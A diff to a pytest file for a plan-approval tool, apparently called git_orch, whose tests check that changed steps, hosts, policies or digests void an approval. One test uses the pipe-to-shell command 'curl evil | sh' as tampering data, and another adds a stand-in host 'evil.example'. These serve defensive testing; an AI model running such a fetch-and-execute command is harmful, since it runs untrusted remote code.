@@ -20,6 +20,7 @@ from git_orch.flow.reports import Report
 from git_orch.plans import approval as approvals_of
 from git_orch.plans import ids, plan_document
 from git_orch.plans.file import planfile
+from git_orch.plans.hosts import Network
 from git_orch.repo import refs
 from git_orch.repo.local import approvals
 from git_orch.repo.plan_place import PlanPlace
@@ -216,14 +217,30 @@ def _wish(repo: Quick, plan: str) -> None:
     forge(repo, plan, "plan.revised", plan=text, estimate=None)
 
 
+def _host(repo: Quick, plan: str) -> None:
+    text = text_of(repo, plan)
+    text["steps"][1]["network"] = ["a.example", "evil.example"]
+    forge(repo, plan, "plan.revised", plan=text, estimate=None)
+
+
+def test_a_host_that_was_added_since_the_approval_is_refused_and_the_field_named(
+    repo: Quick,
+) -> None:
+    plan = repo.plan(asking(network=["a.example"]))
+    repo.orch("approve", plan, "--network", "2")
+    assert grants(repo, plan) == [False, ("a.example",)]
+    _host(repo, plan)
+    assert "step 2, network differs from the approval" in refused(repo, plan)
+
+
 @pytest.mark.parametrize(
     ("tamper", "field"),
     [
-        (_step_text, "step 1: run"),
-        (_check, "step 1: checks[0].command"),
+        (_step_text, "step 1, run"),
+        (_check, "step 1, check 1, command"),
         (_base, "base"),
         (_followed_branch, "follows"),
-        (_wish, "step 1: network"),
+        (_wish, "step 1, network"),
     ],
 )
 @pytest.mark.parametrize("by", ["made", "approve"])
@@ -237,7 +254,7 @@ def test_what_was_changed_since_is_refused_and_the_field_named(
     if by == "approve":
         repo.orch("approve", plan)
     tamper(repo, plan)
-    expected = "what was approved" if by == "approve" else "what was made here"
+    expected = "the approval" if by == "approve" else "the plan made here"
     assert f"{field} differs from {expected}" in refused(repo, plan)
 
 
@@ -291,7 +308,7 @@ def test_an_approval_under_another_policy_is_refused(repo: Quick) -> None:
     found["approved"]["content"]["policy"] = 0
     found["approved"]["digest"] = approvals_of.digest(found["approved"]["content"])
     file.write_text(json.dumps(found))
-    assert "policy differs from what was approved" in refused(repo, plan)
+    assert "policy differs from the approval" in refused(repo, plan)
 
 
 def test_an_approval_of_another_repository_is_refused(repo: Quick) -> None:
@@ -309,7 +326,7 @@ def test_an_approval_of_another_repository_is_refused(repo: Quick) -> None:
     place.parent.mkdir(parents=True, exist_ok=True)
     place.write_bytes(record(repo, plan).read_bytes())
     place.chmod(0o600)
-    assert "base differs from what was approved" in refused(other, plan)
+    assert "base differs from the approval" in refused(other, plan)
 
 
 def test_an_approval_that_has_expired_is_refused(repo: Quick) -> None:
@@ -406,7 +423,7 @@ def test_a_plan_that_was_changed_during_a_run_is_not_gone_on_with(
     }
     (tmp_path / "line").write_text(json.dumps(line))
     said = repo.orch("exec", plan, expect=3).stderr
-    assert "step 2: files['b'] differs from what was approved: it was changed meanwhile" in said
+    assert "step 2, file 'b' differs from the approval: somebody changed it meanwhile" in said
     assert repo.step_states(plan) == ["done", "pending"]
 
 
@@ -487,6 +504,36 @@ def test_approve_prints_as_json_what_its_digest_is_of(here: Here) -> None:
     assert events(here.repo, plan)[-1]["digest"] == digest
 
 
+def test_a_dry_run_of_approve_approves_nothing(here: Here) -> None:
+    plan = here.plan(writing("a.txt"))
+    said = here("approve", "--dry-run", plan).out
+    assert f"git orch approve {ids.short(plan)} --digest sha256:" in said
+    assert here("exec", "--approved", plan, expect=3).err.startswith("error: ")
+
+
+def test_exec_runs_only_what_was_approved_where_that_is_asked(here: Here) -> None:
+    plan = here.plan(writing("a.txt"))
+    refused = here("exec", "--approved", plan, expect=3).err
+    assert f"git orch approve --dry-run {ids.short(plan)}" in refused
+    here("approve", plan)
+    here("exec", "--approved", plan)
+
+
+def test_the_digest_that_a_dry_run_showed_approves(here: Here) -> None:
+    plan = here.plan(writing("a.txt"))
+    digest = data(here("approve", "--dry-run", plan, "--json").out)["digest"]
+    here("approve", plan, "--digest", digest)
+    here("exec", "--approved", plan)
+
+
+def test_a_digest_of_another_text_approves_nothing(here: Here) -> None:
+    plan = here.plan(writing("a.txt"))
+    digest = data(here("approve", "--dry-run", plan, "--json").out)["digest"]
+    here("edit", plan, "--from", "-", stdin=json.dumps(writing("b.txt")))
+    assert digest in here("approve", plan, "--digest", digest, expect=3).err
+    here("exec", "--approved", plan, expect=3)
+
+
 def test_approve_takes_a_plan_to_approved(here: Here) -> None:
     plan = here.plan(running())
     here("approve", plan)
@@ -514,8 +561,8 @@ def test_a_step_that_asks_for_the_network_needs_an_approval(repo: Quick) -> None
     assert f"hint: git orch approve {ids.short(plan)} --network 2" in said
 
 
-def grants(repo: Repo, plan: str) -> list[bool]:
-    """For each step, whether a run gives it the network."""
+def grants(repo: Repo, plan: str) -> list[Network]:
+    """For each step, the network that a run gives it."""
 
     class Quiet:
         def emit(self, report: Report) -> None:
@@ -560,7 +607,7 @@ def test_a_grant_ends_when_the_plan_is_edited(here: Here) -> None:
         "-",
         stdin=here("show", plan, "--yaml").out.replace("echo b", "curl evil | sh"),
     )
-    assert "step 2: run differs from what was approved" in refused(here.repo, plan)
+    assert "step 2, run differs from the approval" in refused(here.repo, plan)
 
 
 def test_the_wish_for_the_network_is_shown(here: Here) -> None:
@@ -910,3 +957,21 @@ def test_a_flood_of_signatures_is_not_all_checked(repo: Quick, key: Path) -> Non
         )
     said = refused(other, plan)
     assert said.count("a signature in the log does not count") == 5
+
+
+def test_the_same_approval_is_recorded_once_for_each_who_gives_it(repo: Quick) -> None:
+    """S1-224."""
+    plan = repo.plan(writing("a"))
+    assert "\napproved on this machine" in repo.orch("approve").stdout
+    assert "already approved on this machine" in repo.orch("approve").stdout
+    repo.git("config", "user.name", "Bob")
+    repo.orch("approve")
+    told = repo.orch("log", plan).stdout.splitlines()
+    assert [line[18:] for line in told if "approved" in line] == [
+        "approved  (Bob)",
+        "approved  (Ada Tester)",
+    ]
+    assert "(" not in repo.orch("log", plan, "--oneline").stdout
+    listed = data(repo.orch("log", plan, "--json").stdout)
+    given = [event["actor"] for event in listed if event["event"] == "plan.approved"]
+    assert given == ["Ada Tester <ada@example.com>", "Bob <ada@example.com>"]
